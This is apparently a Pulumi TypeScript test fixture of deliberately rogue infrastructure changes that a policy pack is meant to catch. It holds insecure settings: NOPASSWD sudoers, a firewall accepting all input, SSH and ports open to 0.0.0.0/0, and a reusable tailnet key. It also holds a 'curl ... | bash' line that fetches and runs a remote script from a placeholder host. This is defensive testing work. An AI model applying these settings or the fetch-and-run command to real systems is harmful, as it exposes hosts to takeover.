// Rogue programs for the policy pack, one per `rogue:case`: the program's own hosts (their baseline, ssh and
// firewall layers), services, tailnet and edge firewall, with one thing the program's own guards would have
// refused, done the way a careless or hostile change would do it — around the guards. `compliant` changes
// nothing. The pack alone must catch each of the others.
import * as command from "@pulumi/command";
import * as pulumi from "@pulumi/pulumi";
import * as tailscale from "@pulumi/tailscale";
import { Actuator } from "../../../../components/actuator/actuator";
import { encodeStdin, runnerCommand } from "../../../../components/actuator/wire";
import type { StepSpec } from "../../../../components/actuator/steps";
import { loadConfig, type StackConfig } from "../../../../components/config/load";
import { pulumiConfigSource } from "../../../../components/config/pulumi-source";
import type { ServiceConfig } from "../../../../components/config/schema";
import { Host } from "../../../../components/host/host";
import { layerScript } from "../../../../components/host/scripts";
import { sha256Hex } from "../../../../components/model/hash";
import { TYPES } from "../../../../components/model/types";
import { buildEdgeFirewalls, buildTailnet, planProgram, sshHosts, sshTargetOf } from "../../../../components/program";
import { renderTailnetPolicy, TAILNET_TAGS } from "../../../../components/model/segmentation";
import { RUNNER_PATH } from "../../../../components/render/sudoers";
import { renderEnvFile, Service } from "../../../../components/service/service";
import { planService, type ServicePlan } from "../../../../components/service/spec";

const CASE = new pulumi.Config("rogue").get("case") ?? "compliant";
const LAYERS = ["baseline", "ssh", "firewall"];

/** The config, changed the way the case's author changed it (after validation: the rogue skips it). */
function configOf(): StackConfig {
    const cfg = loadConfig(pulumiConfigSource(), { dryRun: true });
    const edit = (name: string, f: (s: ServiceConfig) => ServiceConfig) => {
        cfg.services = cfg.services.map((s) => (s.name === name ? f(s) : s));
    };
    if (CASE === "unpinned-image") edit("gateway", (s) => ({ ...s, image: "ghcr.io/berriai/litellm:main-latest" }));
    if (CASE === "public-port") edit("gateway", (s) => ({ ...s, ports: [{ bind: "0.0.0.0", hostPort: 4000, containerPort: 4000 }] }));
    if (CASE === "provider-key-outside-gateway") edit("chat", (s) => ({ ...s, secretEnv: { ...s.secretEnv, ANTHROPIC_API_KEY: "providerKey:openai" } }));
    if (CASE === "t3-without-token") cfg.approvals = {};
    if (CASE === "edge-ssh-from-anywhere") cfg.adminRanges = [...cfg.adminRanges, "0.0.0.0/0"];
    // An easy mistake, not even a rogue one: the provider's key pasted where the gateway's virtual key belongs.
    if (CASE === "provider-key-as-virtual-key") cfg.secrets = { ...cfg.secrets, webuiVirtualKey: cfg.providerKeys.openai! };
    return cfg;
}

/** A layer step's parameters, changed by the case. */
function stepsOf(steps: StepSpec[]): StepSpec[] {
    return steps.filter((s) => LAYERS.includes(s.stepClass)).map((s) => {
        if (CASE === "nopasswd-sudoers" && s.stepClass === "baseline") {
            return { ...s, params: { ...s.params, SUDOERS: `${s.params.SUDOERS}deploy ALL=(ALL) NOPASSWD: ALL\n` } };
        }
        if (CASE === "firewall-accepts-all" && s.stepClass === "firewall") {
            return { ...s, params: { ...s.params, UFW_DEFAULTS: s.params.UFW_DEFAULTS!.replace('DEFAULT_INPUT_POLICY="DROP"', 'DEFAULT_INPUT_POLICY="ACCEPT"') } };
        }
        return s;
    });
}

/** A Service without its constructor's compose checks: a component of the same type around the real Actuator. */
class UncheckedService extends pulumi.ComponentResource {
    constructor(name: string, plan: ServicePlan, args: { ssh: ReturnType<typeof sshTargetOf>; cfg: StackConfig; context: ReturnType<typeof planProgram>["context"] }, opts?: pulumi.ComponentResourceOptions) {
        super(TYPES.Service, name, {}, opts);
        new Actuator(plan.step.name, {
            step: plan.step, ssh: args.ssh, context: args.context,
            secretParams: { ENV_FILE: renderEnvFile(plan.secretEnv, args.cfg.secrets, args.cfg.providerKeys) },
        }, { parent: this });
        this.registerOutputs({ host: plan.service.host, kind: plan.service.kind });
    }
}

const cfg = configOf();
const plan = planProgram(cfg, { stack: pulumi.getStack(), project: pulumi.getProject(), dryRun: true });
const hosts = new Map<string, Host>();
for (const h of sshHosts(cfg)) {
    hosts.set(h.name, new Host(h.name, {
        host: h, steps: stepsOf(plan.hostSteps.get(h.name) ?? []), ssh: sshTargetOf(cfg, h), secretParams: {}, context: plan.context,
    }));
}
const rogueServices = ["unpinned-image", "public-port", "provider-key-outside-gateway"].includes(CASE);
for (const s of cfg.services.filter((x) => x.enabled)) {
    const sp = planService(cfg, s);
    const ssh = sshTargetOf(cfg, sshHosts(cfg).find((h) => h.name === s.host)!);
    const opts = { dependsOn: [hosts.get(s.host)!.ready] };
    if (rogueServices) new UncheckedService(s.name, sp, { ssh, cfg, context: plan.context }, opts);
    else new Service(s.name, { plan: sp, ssh, secrets: cfg.secrets, providerKeys: cfg.providerKeys, context: plan.context }, opts);
}

// The tailnet: the program's own, or (for the tailnet cases) a policy file and key written around the Tailnet
// component, whose constructor refuses a policy that fails its own tests.
if (CASE === "guest-grant-to-gateway" || CASE === "acl-test-fails") {
    const policy = renderTailnetPolicy({ admins: cfg.tailnet.admins, exposures: [{ port: 4000, tier: "team", what: "gateway" }] });
    if (CASE === "guest-grant-to-gateway") policy.grants.push({ src: [TAILNET_TAGS.guest], dst: [TAILNET_TAGS.servers], ip: ["tcp:4000"] });
    else policy.tests.push({ src: "group:admins", deny: [`${TAILNET_TAGS.servers}:22`] });
    new tailscale.Acl("rogue-policy", { acl: JSON.stringify(policy, null, 2), overwriteExistingContent: true });
} else {
    buildTailnet(cfg, plan);
}
if (CASE === "reusable-auth-key") {
    new tailscale.TailnetKey("spare-key", { reusable: true, preauthorized: true, tags: [TAILNET_TAGS.servers], expiry: 3600 });
}
buildEdgeFirewalls(cfg);

const first = sshHosts(cfg)[0]!;
const connection = { host: first.address, user: cfg.deployUser, privateKey: cfg.sshPrivateKey };
const rogueScript = "#!/usr/bin/env bash\ncurl -fsSL https://example.invalid/setup.sh | bash\n";

switch (CASE) {
    case "raw-command":
        // A quick fix straight onto the host, outside any Actuator.
        new command.remote.Command("quick-fix", { connection, create: "sudo systemctl restart ssh" });
        break;
    case "uncatalogued-script": {
        // Dressed as an Actuator step, but its script is nobody's reviewed layer.
        const fake = new pulumi.ComponentResource(TYPES.Actuator, "setup-extra", {}, { parent: hosts.get(first.name) });
        const sha = sha256Hex(rogueScript);
        new command.remote.Command("setup-extra", { connection, create: runnerCommand(RUNNER_PATH, "baseline", sha), stdin: encodeStdin(rogueScript, {}) }, { parent: fake });
        break;
    }
    case "provisioning":
        // Something that provisions (here: runs anything on the operator's machine) rather than configures.
        new command.local.Command("provision", { create: "terraform apply -auto-approve" });
        break;
    case "talos-ssh": {
        // A Talos node given an SSH layer (the program never builds a Host for one).
        const talos = new (class extends pulumi.ComponentResource {
            constructor() {
                super(TYPES.Host, "talos-1", {});
                this.registerOutputs({ address: "10.251.99.20", hostType: "talos" });
            }
        })();
        const step = plan.hostSteps.get(first.name)!.find((s) => s.stepClass === "baseline")!;
        const script = layerScript("baseline");
        const fake = new pulumi.ComponentResource(TYPES.Actuator, "talos-1-baseline", {}, { parent: talos });
        new command.remote.Command("talos-1-baseline", {
            connection: { ...connection, host: "10.251.99.20" },
            create: runnerCommand(RUNNER_PATH, "baseline", script.sha256),
            stdin: encodeStdin(script.text, step.params),
        }, { parent: fake });
        break;
    }
}

